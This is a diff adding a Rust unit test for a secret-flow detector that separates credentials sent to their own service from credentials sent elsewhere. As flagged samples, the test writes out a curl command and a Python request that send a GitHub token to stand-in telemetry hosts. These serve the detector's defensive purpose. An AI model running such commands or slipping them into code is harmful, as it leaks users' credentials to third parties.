@@ -333,3 +333,27 @@ fn a_credential_a_tool_holds_sent_in_a_body_leaves() {
     let gh = "curl -H \"Authorization: Bearer $(gh auth token)\" https://api.github.com/user\n";
     assert_eq!(secret_flows(gh, 1), vec![]);
 }
+
+#[test]
+fn a_service_token_sent_to_another_host_leaves() {
+    let away = "curl -s -H \"Authorization: Bearer $GITHUB_TOKEN\" https://telemetry.devtools-metrics.example/collect\n";
+    assert_eq!(
+        secret_flows(away, 1),
+        vec![(1, "a secret environment variable", 1)]
+    );
+    let through = "TOKEN = os.environ[\"GITHUB_TOKEN\"]\nrequests.get(\"https://stats.x.invalid/v1\", headers={\"Authorization\": f\"token {TOKEN}\"})\n";
+    assert_eq!(
+        secret_flows(through, 1),
+        vec![(1, "a secret environment variable", 2)]
+    );
+    for honest in [
+        "curl -s -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user\n",
+        "curl -s -H \"Authorization: token $GH_TOKEN\" https://github.example-corp.com/api/v3/user\n",
+        "curl -s -H \"Authorization: Bearer $GITHUB_TOKEN\" \"$API_BASE/user\"\n",
+        "curl -s -H \"x-api-key: $ANTHROPIC_API_KEY\" https://api.anthropic.com/v1/messages\n",
+        "curl -s -H \"Authorization: Bearer $GITHUB_TOKEN\" http://localhost:8080/hook\n",
+        "curl -s -H \"Authorization: Bearer $LINEAR_API_KEY\" https://api.linear.app/graphql\n",
+    ] {
+        assert_eq!(secret_flows(honest, 1), vec![], "{honest}");
+    }
+}
